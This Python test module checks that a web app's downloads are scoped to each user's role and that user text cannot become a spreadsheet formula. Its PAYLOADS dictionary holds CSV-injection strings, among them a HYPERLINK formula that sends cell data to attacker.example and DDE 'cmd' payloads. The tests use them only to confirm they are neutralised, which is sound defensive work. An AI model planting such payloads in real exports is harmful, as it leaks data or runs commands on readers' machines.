"""Issue 12: every download is built for the user who asks for it, and nothing user-written
leaves as a spreadsheet formula or breaks an export.

Written to fail on the code before the fix: a Police officer's pack held every agency's
actions and the MARAC, repeat-victim and cohort tables; a manager's pack held the people
pages; a partner's "=HYPERLINK(...)" update was a live formula in pack.xlsx and passed
unchanged into the CSV downloads; a NUL in stored text made pack.xlsx answer 500; the records
API gave record-level rows in bulk without the export right."""

from __future__ import annotations

import csv
import html
import io
import shutil
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import duckdb
import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from saferboard.web.app import create_app
from saferboard.web.settings import Settings
from tests.web.conftest import ROLE_USER, SECRET, Clock, Web
from tests.web.test_permissions import PACK_ROUTE, ROLES, matrix, wrong_answer

# One payload per formula trigger of OWASP's CSV-injection guidance, each in the update of
# one of the Police's actions for the quarter the pack shows (2012/13 Q4). The form strips
# surrounding white space, so the tab payload arrives as "=1+1" (the tab and carriage-return
# triggers are tested on the CLI's CSV, in tests/test_export_safety.py).
PAYLOADS = {
    "AP1.01": '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "AP1.02": "+1+cmd|' /C calc'!A0",
    "AP1.03": "-2+3+cmd|' /C calc'!A0",
    "AP1.04": "@SUM(1+1)*cmd|' /C calc'!A0",
    "AP1.05": "\t=1+1",
}
# Text stored before input was checked (or written by another tool), in the update of a
# Police action the payloads leave alone: a NUL and an ESC.
STORED_CONTROL = "AP6.01"
PEOPLE_SHEETS = {"Repeat victimisation", "MARAC", "Offender cohort"}
PEOPLE_SECTIONS = ('id="victims"', 'id="marac"', 'id="cohort"')


@pytest.fixture(scope="module")
def scoped(base_db: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Web]:
    """One app for the module (its pack cache is shared by the tests: each audience's pack
    is built once), with control characters stored in STORED_CONTROL's update and the
    payloads submitted by the Police officer through the update form."""
    db = tmp_path_factory.mktemp("scope") / "saferboard.duckdb"
    shutil.copy(base_db, db)
    con = duckdb.connect(str(db))
    try:
        changed = con.execute("UPDATE gov_action_updates SET update_text = 'a' || chr(0) || "
                              "'b' || chr(27) WHERE action_id = ?", [STORED_CONTROL]).fetchone()
    finally:
        con.close()
    assert changed == (1,)
    clock = Clock(datetime(2026, 1, 5, 10, 0, tzinfo=UTC))
    settings = Settings(db=db, secret=SECRET, clock=clock)
    app = create_app(settings)
    web = Web(app, settings, clock, db)
    police = web.login("police")
    token = web.csrf(police)
    for action_id, payload in PAYLOADS.items():
        r = police.post(f"/actions/{action_id}/update",
                        data={"csrf_token": token, "quarter": "2012-Q4", "plan": "Plan",
                              "update": payload, "rag": "A"})
        assert r.status_code == 303, (action_id, r.status_code, r.text[:300])
    yield web
    app.state.saferboard.db.close()


def _xlsx(web: Web, username: str) -> dict[str, Worksheet]:
    r = web.login(username).get("/downloads/pack.xlsx")
    assert r.status_code == 200, r.text[:300]
    wb = load_workbook(io.BytesIO(r.content))
    return {ws.title: ws for ws in wb.worksheets}


def _rows(ws: Worksheet) -> list[dict[str, object]]:
    values = list(ws.iter_rows(values_only=True))
    return [dict(zip(values[0], v, strict=True)) for v in values[1:]]


def _html(web: Web, username: str) -> str:
    r = web.login(username).get("/downloads/pack.html")
    assert r.status_code == 200, r.text[:300]
    assert r.headers["content-type"].startswith("text/html")
    return r.text


def _query(web: Web, sql: str) -> list[tuple[object, ...]]:
    # Through the app's own connection: the app holds the database file.
    with web.app.state.saferboard.db.connect() as con:
        rows: list[tuple[object, ...]] = con.execute(sql).fetchall()
    return rows


def _actions_by_agency(web: Web) -> dict[str, set[str]]:
    out: dict[str, set[str]] = {}
    for agency, action in _query(web, "SELECT agency, action FROM gov_actions"):
        out.setdefault(str(agency), set()).add(str(action))
    return out


def test_analyst_pack_holds_everything(scoped: Web) -> None:
    # The control: a role that may see everything gets the people sheets and every agency.
    sheets = _xlsx(scoped, "analyst")
    assert set(sheets) >= PEOPLE_SHEETS
    agencies = {r["agency"] for r in _rows(sheets["Action plan"])}
    assert {"Police", "Barnet Council"} <= agencies
    page = _html(scoped, "analyst")
    assert all(s in page for s in PEOPLE_SECTIONS)
    assert "prepared for your role" not in page


def test_partner_pack_holds_only_their_agency_and_no_people_pages(scoped: Web) -> None:
    sheets = _xlsx(scoped, "police")
    assert not PEOPLE_SHEETS & set(sheets), sorted(sheets)
    actions = _rows(sheets["Action plan"])
    assert {r["agency"] for r in actions} == {"Police"}
    police = _query(scoped, "SELECT count(*) FROM gov_actions WHERE agency = 'Police'")
    assert [(len(actions),)] == police == [(50,)]  # every action the Police lead
    assert _rows(sheets["Funded projects"]) == []  # every project is Barnet Council's
    assert not {t for t in sheets if t.startswith("VfM")}
    page = _html(scoped, "police")
    assert not [s for s in PEOPLE_SECTIONS if s in page]
    projects = [str(r[0]) for r in _query(scoped, "SELECT name FROM gov_projects")]
    assert projects and not [p for p in projects if html.escape(p) in page]
    by_agency = _actions_by_agency(scoped)
    # Texts the Police share with another agency ("Go live") are not another's to leak.
    others = {a for agency, texts in by_agency.items() if agency != "Police"
              for a in texts} - by_agency["Police"]
    assert others
    leaked = [a for a in others if html.escape(a) in page]
    assert not leaked, leaked[:3]
    assert "leaves out the victims and offenders pages" in page


def test_manager_pack_has_every_agency_but_no_people_pages(scoped: Web) -> None:
    sheets = _xlsx(scoped, "manager")
    assert not PEOPLE_SHEETS & set(sheets), sorted(sheets)
    assert {"Police", "Barnet Council", "Probation"} <= {
        r["agency"] for r in _rows(sheets["Action plan"])}
    page = _html(scoped, "manager")
    assert not [s for s in PEOPLE_SECTIONS if s in page]
    assert "Overview dashboard" in page


@pytest.mark.parametrize("role", ROLES)
def test_pack_downloads_follow_the_permission_matrix(scoped: Web, role: str) -> None:
    # The matrix's rows for the pack (permissions.csv; test_permissions.py checks the
    # others): status, and for a pack given, what it holds.
    client = scoped.client() if role == "anonymous" else scoped.login(ROLE_USER[role])
    rows = [r for r in matrix() if r["role"] == role and r["route"] == PACK_ROUTE]
    assert rows and {r["method"] for r in rows} == {"GET"}
    failures = []
    for r in rows:
        response = client.get(r["path"])
        failures += wrong_answer(r, response.status_code, response.content)
    assert not failures, f"{role}:\n" + "\n".join(failures)


def test_partner_csv_of_actions_is_their_agency_only(scoped: Web) -> None:
    r = scoped.login("police").get("/downloads/csv/actions")
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert len(rows) == 50 and {row["agency"] for row in rows} == {"Police"}


def test_no_payload_becomes_a_formula_in_the_pack_workbook(scoped: Web) -> None:
    sheets = _xlsx(scoped, "manager")
    by_id = {r["action_id"]: r for r in _rows(sheets["Action plan"])}
    ws = sheets["Action plan"]
    header = [c.value for c in ws[1]]
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
    for action_id, payload in PAYLOADS.items():
        assert by_id[action_id]["update"] == "'" + payload.strip()
    # Numbers stay numbers.
    dashboard = _rows(sheets["Dashboard"])
    assert any(isinstance(r.get("rolling12_volume"), int) for r in dashboard)
    assert header  # the sheet has its header row


@pytest.mark.parametrize("username", ["manager", "police"])
def test_csv_download_neutralises_every_payload(scoped: Web, username: str) -> None:
    r = scoped.login(username).get("/downloads/csv/actions")
    rows = {row["action_id"]: row for row in csv.DictReader(io.StringIO(r.text))}
    for action_id, payload in PAYLOADS.items():
        assert rows[action_id]["update"] == "'" + payload.strip()


def test_control_character_in_a_web_update_is_refused(scoped: Web) -> None:
    police = scoped.login("police")
    r = police.post("/actions/AP1.07/update",
                    data={"csrf_token": scoped.csrf(police), "quarter": "2012-Q4",
                          "plan": "ok", "update": "before\x00after", "rag": "G"})
    assert r.status_code == 422
    assert "control character" in r.text
    stored = _query(scoped, "SELECT action_id FROM gov_action_updates "
                            "WHERE contains(update_text, chr(0))")
    assert stored == [(STORED_CONTROL,)]  # the fixture's, and not the refused update


def test_export_never_fails_on_stored_control_characters(scoped: Web) -> None:
    # Text stored before input was checked (or written by another tool) must not take the
    # pack down for everyone.
    manager = scoped.login("manager")
    for kind in ("xlsx", "html"):
        r = manager.get(f"/downloads/pack.{kind}")
        assert r.status_code == 200, (kind, r.text[:200])
    assert "a\ufffdb\ufffd" in r.text
    r = manager.get("/downloads/csv/actions")
    assert r.status_code == 200 and "a\ufffdb\ufffd" in r.text


def test_records_api_needs_the_export_right(scoped: Web) -> None:
    refused = scoped.login("analyst_nx").get("/api/records/incidents?limit=5000")
    assert refused.status_code == 403
    assert scoped.login("analyst_nx").get("/downloads/csv/records").status_code == 403
    allowed = scoped.login("analyst").get("/api/records/incidents?limit=5000")
    assert allowed.status_code == 200 and len(allowed.json()) > 100
    # The interactive records page stays open to the analyst without the right (audited).
    assert scoped.login("analyst_nx").get("/records").status_code == 200
